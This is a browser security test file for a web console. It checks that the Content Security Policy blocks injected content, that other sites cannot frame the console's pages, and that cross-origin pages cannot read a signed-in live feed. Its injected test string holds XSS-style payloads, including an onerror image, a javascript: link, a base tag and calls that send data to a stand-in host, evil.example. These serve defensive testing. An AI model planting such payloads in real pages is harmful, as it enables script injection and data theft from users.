import { createServer, type Server } from 'node:http'
import { once } from 'node:events'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { z } from 'zod'
import { startBrowser, type TestBrowser } from '../support/browser.ts'
import { openConsole } from '../support/console-page.ts'
import { type Instance, startInstance } from '../support/instance.ts'

// What a browser does with a page of ours that somebody got something into, or put into a frame.
let instance: Instance
let browser: TestBrowser
let evil: Server
let evilUrl: string
beforeAll(async () => {
  instance = await startInstance()
  browser = await startBrowser()
  evil = createServer((request, response) => {
    response.setHeader('content-type', 'text/html')
    const framed = new URL(request.url ?? '/', 'http://evil.example').searchParams.get('frame') ?? ''
    response.end(`<!doctype html><title>evil</title><iframe src="${framed}" width="600" height="400"></iframe>`)
  })
  evil.listen(0, '127.0.0.1')
  await once(evil, 'listening')
  const address = evil.address()
  // Another site: the name differs, so that nothing is taken for our own.
  evilUrl = typeof address === 'object' && address !== null ? `http://localhost:${address.port}` : ''
}, 120_000)
afterAll(async () => {
  evil.close()
  await browser.stop()
  await instance.stop()
})

/** Puts into the page what an attacker would, and tells what the browser refused and whether any of it ran. */
const PLANT = `new Promise((resolve) => {
  const refused = []
  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
  const script = document.createElement('script')
  script.textContent = 'globalThis.planted = true'
  const foreign = document.createElement('script')
  foreign.src = 'http://evil.example/script.js'
  const holder = document.createElement('div')
  holder.innerHTML = '<img src="http://evil.example/told?secret" onerror="globalThis.planted = true">'
    + '<a href="javascript:globalThis.planted = true">press</a><iframe src="http://evil.example/"></iframe>'
    + '<object data="http://evil.example/"></object><form action="http://evil.example/"></form>'
  const base = document.createElement('base')
  base.href = 'http://evil.example/'
  document.head.append(base)
  document.body.append(script, foreign, holder)
  holder.querySelector('a').click()
  holder.querySelector('form').submit()
  fetch('http://evil.example/told').catch(() => undefined)
  setTimeout(() => resolve({ refused: [...new Set(refused)].toSorted(), ran: globalThis.planted === true, base: document.baseURI }), 1500)
})`
const plantedSchema = z.object({ refused: z.array(z.string()), ran: z.boolean(), base: z.string() })

it('57, 58 and 59: what is planted in the console runs nothing, loads nothing and tells nobody', async () => {
  const { page } = await openConsole(browser, instance.kasa, { path: '/settings' })
  const planted = plantedSchema.parse(await page.evaluate(PLANT))
  expect(planted.ran).toBe(false)
  expect(new URL(planted.base).host).toBe(new URL(instance.kasa.url).host)
  expect(planted.refused).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
  ])
})

it.each(['/console/organization?part=general', '/'])(
  '60: another site gets no page of ours into a frame: %s',
  async (path) => {
    const { page } = await openConsole(browser, instance.kasa, { path: '/settings' })
    await page.goto(`${evilUrl}/?frame=${encodeURIComponent(`${instance.kasa.url}${path}`)}`)
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
  },
)

/** What another site gets of a feed and of an answer, with all cookies that the browser would send along. */
const LISTEN = `Promise.all([
  new Promise((resolve) => {
    const feed = new EventSource('FEED', { withCredentials: true })
    feed.onmessage = feed.onopen = () => resolve('told')
    feed.onerror = () => resolve('refused')
  }),
  fetch('FEED', { credentials: 'include' }).then(() => 'told', () => 'refused'),
])`

it('63: another site hears nothing of a live feed, though its reader is signed in here', async () => {
  const { page } = await openConsole(browser, instance.kasa, { path: '/settings' })
  const feed = `${instance.kasa.url}/api/usage/live`
  // From here the same address answers: what refuses below is not a wrong address.
  expect(await page.evaluate(`fetch('${feed}').then((answer) => answer.status)`)).toBe(200)
  await page.goto(evilUrl)
  expect(await page.evaluate(LISTEN.replaceAll('FEED', feed))).toEqual(['refused', 'refused'])
})
